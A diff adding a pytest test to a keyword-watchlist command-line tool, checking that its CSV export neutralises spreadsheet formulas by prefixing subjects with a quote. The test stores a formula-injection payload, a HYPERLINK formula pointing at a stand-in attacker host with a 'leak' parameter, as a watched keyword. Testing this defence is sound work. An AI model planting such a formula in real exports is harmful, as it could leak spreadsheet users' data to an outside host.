@@ -3,6 +3,8 @@ real database (SQLite and PostgreSQL), as a script or a person at a terminal wou
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
 import pytest
@@ -117,6 +119,18 @@ def test_list_shows_every_subject_with_its_site_and_as_csv(run, store_url: str) 
     assert lines[0] == "kind,subject,site,origin,added_at"
     assert any(line.startswith("keyword,cold brew coffee,northwind-coffee.com,added,") for line in lines)
     assert any(line.startswith(f"domain,{OWN_SITES[0]},,own,") for line in lines)
+
+
+def test_list_as_csv_defuses_a_subject_a_spreadsheet_would_run(run, store_url: str) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?leak","click")'
+    with HistoryStore.open(store_url) as store:
+        store.watch(ACCOUNT, "keyword", hostile, site="northwind-coffee.com")
+        store.watch(ACCOUNT, "keyword", "-1+2", site="northwind-coffee.com")
+        stored = sorted(item.subject for item in store.watchlist(ACCOUNT))
+    code, out, _err = run("list", "--csv")
+    assert code == 0
+    subjects = sorted(row["subject"] for row in csv.DictReader(io.StringIO(out)))
+    assert subjects == sorted("'" + subject for subject in stored)
 
 
 def test_import_keeps_the_good_rows_and_names_each_bad_one_by_its_line(
